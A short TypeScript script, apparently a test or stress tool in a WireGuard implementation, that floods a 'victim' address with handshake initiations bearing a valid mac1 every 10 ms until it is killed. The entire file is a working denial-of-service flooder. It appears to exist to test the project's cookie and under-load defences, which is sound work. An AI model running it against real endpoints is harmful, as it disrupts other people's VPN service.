/**
 * Sends initiations that look right from outside (their mac1 is) until it is killed.
 * Arguments: address, port and public key (hex) of the victim.
 */
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { MacSigner } from '../../src/proto/wireguard/cookie.ts';
import { encodeInitiation } from '../../src/proto/wireguard/messages.ts';

const [address, port, publicKey] = process.argv.slice(2);
const signer = new MacSigner(Buffer.from(publicKey!, 'hex'));
const messages = Array.from({ length: 256 }, (_, i) => {
  const message = encodeInitiation({
    senderIndex: i,
    ephemeral: randomBytes(32),
    encryptedStatic: randomBytes(48),
    encryptedTimestamp: randomBytes(28),
  });
  signer.sign(message, 0);
  return message;
});
const socket = createSocket('udp4');
const burst = () => {
  for (const message of messages) socket.send(message, Number(port), address!);
};
socket.bind(0, () => {
  setInterval(burst, 10);
  process.stdout.write('ready\n');
});
